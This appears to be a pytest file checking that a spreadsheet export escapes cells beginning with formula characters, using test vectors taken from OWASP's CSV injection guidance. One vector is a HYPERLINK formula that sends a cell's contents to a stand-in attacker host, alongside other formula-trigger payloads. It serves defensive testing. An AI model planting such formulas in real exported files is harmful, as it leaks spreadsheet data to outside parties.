"""Formula injection in exported cells: the test vectors of docs/formats.md ("Formulas in exported cells")."""

from decimal import Decimal

import pytest

from sscard.domain.spreadsheet import escape_cell, escape_row

# (cell as the product has it, cell as written to the file), by hand from OWASP "CSV Injection"
VECTORS = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=", "'="),
    # text that only contains a trigger further on is left alone
    ("湖北省武汉市武昌区 =HYPERLINK(1)", "湖北省武汉市武昌区 =HYPERLINK(1)"),
    ("a-b", "a-b"),
    (" =1", " =1"),
    # machine fields: their formats never start with a trigger, so they are written as they are
    ("6K9PRQ32BNX", "6K9PRQ32BNX"),
    ("42010619900307010X", "42010619900307010X"),
    ("2026-11-20", "2026-11-20"),
    ("6222020200009876543", "6222020200009876543"),
    ("13900270001", "13900270001"),
    ("SF-1234567890", "SF-1234567890"),
    ("", ""),
    # numbers are values, not text: a negative number stays a number
    (-3, -3),
    (-1.5, -1.5),
    (Decimal("-20.00"), Decimal("-20.00")),
    (0, 0),
    (None, None),
]


@pytest.mark.parametrize(("cell", "written"), VECTORS, ids=[repr(c)[:30] for c, _w in VECTORS])
def test_a_cell_starting_with_a_formula_character_is_written_as_text(cell, written):
    assert escape_cell(cell) == written
    assert type(escape_cell(cell)) is type(written)


def test_a_row_is_escaped_cell_by_cell():
    assert escape_row(["6K9PRQ32BNX", "=1+1", 7, "-"]) == ["6K9PRQ32BNX", "'=1+1", 7, "'-"]
